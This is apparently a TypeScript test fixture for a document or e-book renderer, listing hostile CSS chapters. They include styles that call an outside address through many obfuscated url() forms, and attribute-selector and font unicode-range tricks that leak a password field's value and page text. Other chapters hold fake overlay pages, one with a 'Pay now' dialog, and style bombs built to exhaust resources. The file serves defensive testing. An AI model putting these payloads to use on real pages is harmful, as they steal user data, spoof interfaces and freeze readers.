// Style sheets that tell, cover, fake or choke.

import type { EvilChapter } from './case.ts';

const letters = 'abcdefghijklmnopqrstuvwxyz0123456789';

/** A face for a range of characters, by an address that tells which were on the page. */
const faces = (here: string) =>
  Array.from(
    { length: 26 },
    (_, n) => `@font-face{font-family:spy;src:url(${here}/letter-${n}.woff2);unicode-range:U+${(97 + n).toString(16)}}`,
  ).join('');

/** Every one of them is asked of every element, and of those beside it. */
const anyBeside = `${Array.from({ length: 250 }, (_, n) => `* * > :not(.q${n}) ~ *{--a:${n}}`).join('')}${Array.from({ length: 2000 }, (_, n) => `* > :not(.r${n}) *`).join(',')}{--b:1}`;

export const styles: EvilChapter[] = [
  {
    name: 'styles that ask',
    head: (here) => `<link rel="stylesheet" href="s.css"/><style>
@import url("${here}/a.css") layer(x) supports(display: grid) screen; @import '${here}/b.css'; @\\69mport "${here}/c.css"; @import url(${here}/d.css
); @namespace url("${here}/ns"); @font-face{font-family:e;src:local("x"),url("${here}/e.woff2") format("woff2"),url(//${here.slice(7)}/f.woff)}
body{font-family:e;background:url(${here}/g.png),image-set("${here}/h.png" 1x, url(${here}/i.png) 2x),-webkit-image-set(url('${here}/j.png') 1x),cross-fade(url(${here}/k.png),url(${here}/l.png),50%)}
p{list-style-image:u\\72l("${here}/m.png");cursor:url(${here}/n.cur),auto;border-image:url(${here}/o.png) 30;content:url(${here}/p.png);mask-image:url(${here}/q.svg#m);filter:url(${here}/r.svg#f);shape-outside:url(${here}/s.png)}
p::before{content:url(${here}/t.png)} p::after{content:"x" url("${here}/u.png")} ::marker{content:url(${here}/v.png)} *{--x:url(${here}/w.png);background-image:var(--x)}
@media print,screen{p{background:URL( ${here}/x.png )}} @supports (display:block){p{background:url("ht\\74p://${here.slice(7)}/y.png")}} @container (min-width:1px){p{background:url(${here}/z.png)}}
@property --u{syntax:"<url>";inherits:true;initial-value:url(${here}/a1.png)} @page{background:url(${here}/b1.png)} a{src:src("${here}/c1.png")} @counter-style c{system:cyclic;symbols:url(${here}/d1.png)} li{list-style:c}
/*url(*/p{background:url(${here}/e1.png)}/*)*/ p{background:/**/url/**/(${here}/f1.png);b:url(\\
${here}/g1.png)} @document url(${here}/h1){p{color:red}} @view-transition{navigation:auto} p{behavior:url(${here}/i1.htc);-moz-binding:url(${here}/j1.xml#a)}
</style>`,
    body: (
      here,
    ) => `<p style="background:url('${here}/k1.png')">a</p><p style="background:ur\\l(${here}/l1.png)">b</p><p style='background:image-set("${here}/m1.png" 1x)'>c</p><p style="--y:url(${here}/n1.png);background:var(--y)">d</p><ul><li>x</li></ul>
<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:url(${here}/o1.svg#a)} @import "${here}/p1.css";</style><rect width="9" height="9"/></svg>`,
    parts: (here) => [
      {
        name: 'O/s.css',
        data: `@charset "utf-8";@import "${here}/q1.css";@import "s.css";p{background:url(${here}/r1.png)}${faces(here)}`,
      },
    ],
  },
  {
    name: 'styles that tell what is on the page',
    head: (
      here,
    ) => `<style>${faces(here)}p{font-family:spy}${[...letters].map((letter) => `input[value^="${letter}"]~p{background:url(${here}/input-${letter})} [data-octavo-link*="${letter}"]{background:url(${here}/link-${letter})} p:has(+[id^="${letter}"]){list-style-image:url(${here}/id-${letter})}`).join('')}
::highlight(octavo-marker){background:url(${here}/mark)} ::selection{background:url(${here}/selection)} a:visited{background:url(${here}/visited)} p:hover{background:url(${here}/hover)} p:active{background:url(${here}/active)} :focus{background:url(${here}/focus)} ::-webkit-scrollbar{background:url(${here}/scroll)} @media (prefers-color-scheme:dark){p{background:url(${here}/dark)}} @media (min-width:1000px){p{background:url(${here}/wide)}}</style>`,
    body: () => '<input type="password" value="secret"/><p>abc xyz</p><p id="q"><a href="last.xhtml#secret">x</a></p>',
  },
  {
    name: 'a page that covers and fakes the reader',
    head: () => `<style>html,body{position:fixed!important;inset:0!important;z-index:2147483647!important;overflow:scroll!important;pointer-events:none!important;touch-action:auto!important;width:5000px!important;height:5000px!important;transform:translate(-50px,-50px) scale(3)!important;zoom:3!important;display:none!important;visibility:hidden!important;opacity:0!important;contain:none!important;columns:1!important;writing-mode:vertical-rl!important;direction:rtl!important;position-try:none;user-select:none!important}
*{pointer-events:none!important;animation:x 1s infinite!important;transition:all 9s!important;scroll-snap-type:both mandatory!important} .menu{position:fixed;inset:-9999px;background:#fff;z-index:2147483647} @keyframes x{to{transform:rotate(1turn)}} ::view-transition{position:fixed} .menu::backdrop{background:#000}</style>`,
    body: () =>
      '<div class="menu" popover="manual">Menu</div><dialog open="open" class="menu">Pay now</dialog><div style="position:fixed;bottom:0;left:0;width:100vw;height:100vh;background:#fff;z-index:9">Menu</div><marquee>m</marquee>',
  },
  {
    name: 'ten megabytes of styles',
    head: () => '<link rel="stylesheet" href="huge.css"/>',
    body: () => '<p>x</p>',
    parts: () => [
      {
        name: 'O/huge.css',
        data: Array.from({ length: 160_000 }, (_, n) => `.a${n} p > b:not(.c${n % 7})::after{content:"${n}"}\n`).join(
          '',
        ),
      },
    ],
  },
  {
    name: 'styles without end',
    head: () => `<link rel="stylesheet" href="loop.css"/><link rel="stylesheet" href="imports.css"/><style>${'@media all{'.repeat(20_000)}p{color:red}</style><style>${'a:not('.repeat(20_000)}b</style><style>${'p{width:calc('.repeat(1)}${'('.repeat(20_000)}</style>
<style>:root{--a0:${'x'.repeat(500)};${Array.from({ length: 40 }, (_, n) => `--a${n + 1}:${`var(--a${n})`.repeat(8)};`).join('')}} p{content:var(--a40);font-family:var(--a40)} p{--s:var(--s2);--s2:var(--s)}</style>
<style>${'/*'.repeat(100_000)}</style><style>${'url("'.repeat(100_000)}</style><style>${'\\'.repeat(100_001)}</style>`,
    body: () => `<p style="width:calc(${'('.repeat(5000)}1px${')'.repeat(5000)})">x</p>`,
    parts: () => [
      { name: 'O/loop.css', data: '@import "loop.css";'.repeat(4) },
      { name: 'O/imports.css', data: Array.from({ length: 4000 }, (_, n) => `@import "i${n % 40}.css";`).join('') },
      ...Array.from({ length: 40 }, (_, n) => ({
        name: `O/i${n}.css`,
        data: `@import "i${(n + 1) % 40}.css"; @import "imports.css"; .i${n}{color:red}`,
      })),
    ],
  },
  {
    name: 'rules that multiply each other, count everything and fill pages without number',
    head: () =>
      `<style>${'&,p,b{'.repeat(25)}color:red${'}'.repeat(25)}</style><style>${Array.from({ length: 3000 }, (_, n) => `:nth-last-of-type(${n}n+1)+p~p{--a:1}:nth-child(${n}n+1 of p){--a:2}`).join('')}</style><style>p{counter-increment:${Array.from({ length: 500 }, (_, n) => `c${n}`).join(' ')}} p::before{content:${Array.from({ length: 200 }, (_, n) => `counter(c${n})`).join('')}} .t{height:10000000px} .u{height:1e8px;-webkit-columns:2}</style><style>${Array.from({ length: 30_000 }, (_, n) => `* > :not([class*="q${n}"]) ~ *{--b:1}`).join('')}</style>`,
    body: () =>
      `${'<p>x</p>'.repeat(1000)}${'<div class="t">x</div><div style="height:99999999px">x</div>'.repeat(10)}${'<section class="u">'.repeat(100)}x${'</section>'.repeat(100)}`,
  },
  {
    name: 'sizes without measure',
    head: () =>
      '<style>p{font-size:1e9px;line-height:1e9;letter-spacing:1e7px;text-indent:-1e9px;margin:1e9px;border:1e8px solid;box-shadow:0 0 1e6px 1e6px #000;filter:blur(9999px) drop-shadow(0 0 9999px red);columns:100000;perspective:1px} .g{display:grid;grid:repeat(9999,1px)/repeat(9999,1px)} .c{counter-reset:a 2147483647}</style>',
    body: () =>
      `<div class="g">${'<i>x</i>'.repeat(50)}</div><table>${'<colgroup span="1000"></colgroup>'.repeat(50)}<tr><td colspan="100000" rowspan="65534">x</td></tr></table><img alt="" width="99999999" height="99999999" src="x.png"/><p style="height:33554400px">x</p><hr width="1000000000"/><ol start="2147483647"><li>x</li></ol>`,
  },
  {
    name: 'selectors without end in many sheets, in lists and in imports',
    head: () =>
      `<link rel="stylesheet" href="many.css"/>${Array.from({ length: 15 }, () => `<style>${anyBeside}</style>`).join('')}`,
    body: () => '<p><b>x</b> <i>y</i></p>'.repeat(1000),
    parts: () => [
      { name: 'O/many.css', data: Array.from({ length: 40 }, (_, n) => `@import "i${n}.css";`).join('') },
      ...Array.from({ length: 40 }, (_, n) => ({ name: `O/i${n}.css`, data: anyBeside })),
    ],
  },
];
